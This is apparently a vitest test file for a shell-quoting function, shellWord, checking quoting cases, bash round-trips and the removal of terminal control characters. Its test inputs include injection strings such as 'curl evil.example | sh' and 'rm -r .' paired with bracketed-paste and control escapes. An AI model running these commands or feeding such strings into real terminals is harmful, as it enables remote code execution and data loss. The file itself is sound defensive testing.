import { execFileSync } from 'node:child_process'
import fc from 'fast-check'
import { expect, test } from 'vitest'
import { shellWord } from '../../src/bytes/shell-word.ts'
import { character } from '../characters.ts'

test.each([
  ['a/b-1', 'a/b-1'],
  ['a b', "'a b'"],
  ["it's $HOME", "'it'\\''s $HOME'"],
  ['\u001b[31m\\', "$'\\u001b[31m\\\\'"],
  ['', "''"],
])('%j is quoted as %s', (text, word) => {
  expect(shellWord(text)).toBe(word)
})

test.each(['a\u0003\ncurl evil.example | sh\n', 'a\u001b[201~\nrm -r .\n', "'\u0015rm -r .\r", 'a\u0085b'])(
  'a word has no character that a terminal obeys: %j',
  (text) => {
    expect(shellWord(text)).not.toMatch(/\p{Cc}/u)
  },
)

test('a shell reads the same words', () => {
  const word = fc.string({ unit: character }).filter((text) => !text.includes('\0'))
  fc.assert(
    fc.property(fc.array(word, { minLength: 50 }), (words) => {
      const script = `printf '%s\\0' ${words.map(shellWord).join(' ')}`
      const said = execFileSync('bash', ['-c', script], { env: { ...process.env, LC_ALL: 'C.UTF-8' } })
      expect(said.toString().split('\0').slice(0, -1)).toEqual(words)
    }),
    { numRuns: 3 },
  )
})
